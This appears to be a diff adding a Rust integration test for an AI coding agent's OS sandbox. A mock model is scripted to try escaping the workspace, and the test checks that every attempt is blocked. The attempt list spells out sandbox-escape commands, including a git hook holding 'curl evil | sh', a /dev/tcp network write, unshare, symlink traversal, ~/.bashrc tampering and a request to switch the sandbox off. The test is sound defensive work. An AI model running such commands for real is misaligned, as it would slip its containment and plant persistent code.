@@ -1,0 +1,69 @@
+//! The binary with the OS sandbox on (the default): a model allowed to run anything (auto mode,
+//! headless) still changes nothing outside the workspace and reaches no network.
+
+use super::common::home_for;
+use assert_cmd::Command;
+use octo_testkit::anthropic::Reply;
+use octo_testkit::{MockLlm, Scripted, TempHome};
+use serde_json::json;
+
+fn octo(home: &TempHome) -> Command {
+    let mut c = Command::cargo_bin("octo").unwrap();
+    c.env_clear()
+        .env("PATH", std::env::var("PATH").unwrap_or_default())
+        .env("HOME", home.home())
+        .env("OCTO_HOME", home.home())
+        .env("OCTO_NO_KEYRING", "1")
+        .env("OCTO_MAX_ATTEMPTS", "1")
+        .env("MOCK_KEY", "sk-mock")
+        .env("NO_COLOR", "1")
+        .current_dir(home.workspace());
+    c
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_auto_mode_model_cannot_escape_the_workspace() {
+    let llm = MockLlm::start().await;
+    let home = home_for(&llm);
+    home.write(".git/hooks/README", "hooks\n").unwrap();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let outside = home.workspace().parent().unwrap().to_path_buf();
+    let attempts = [
+        json!({"command": "echo pwned >> ~/.bashrc"}),
+        json!({"command": "echo x > ../escape.txt"}),
+        json!({"command": format!("echo x > {}/abs.txt", outside.display())}),
+        json!({"command": "ln -s .. up && echo x > up/link.txt"}),
+        json!({"command": "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"}),
+        json!({"command": format!("bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'")}),
+        json!({"command": "echo x > ../late.txt", "run_in_background": true}),
+        json!({"command": "unshare -r sh -c 'echo x > ../unshared.txt'"}),
+        json!({"command": "echo x > ../escalated.txt", "sandbox": false, "reason": "needed"}),
+        json!({"command": "echo fine > inside.txt"}),
+    ];
+    let mut replies: Vec<Scripted> = attempts
+        .iter()
+        .enumerate()
+        .map(|(i, a)| Scripted::sse(Reply::new().tool_use(format!("toolu_{i}"), "terminal", a.clone()).sse()))
+        .collect();
+    replies.push(Scripted::sse(Reply::new().text("Done.").sse()));
+    llm.script_anthropic(replies).await;
+    let mut c = octo(&home);
+    c.args(["--permission-mode", "auto", "--no-save", "try everything"]);
+    let out = tokio::task::spawn_blocking(move || c.output().unwrap()).await.unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    for gone in ["home/.bashrc", "escape.txt", "abs.txt", "link.txt", "late.txt", "unshared.txt", "escalated.txt"] {
+        assert!(!outside.join(gone).exists(), "{gone} was written: {stderr}");
+    }
+    assert!(!home.workspace().join(".git/hooks/pre-commit").exists());
+    assert!(listener.accept().is_err(), "a command reached the loopback server");
+    assert_eq!(std::fs::read_to_string(home.workspace().join("inside.txt")).unwrap(), "fine\n");
+    // The model was told why, and the escalation was refused without anyone to ask.
+    let bodies = llm.request_bodies().await;
+    let last = serde_json::to_string(&bodies.last().unwrap()["messages"]).unwrap();
+    assert!(last.contains("This may be the OS sandbox"), "{last}");
+    assert!(last.contains("not approved") || last.contains("denied"), "{last}");
+}
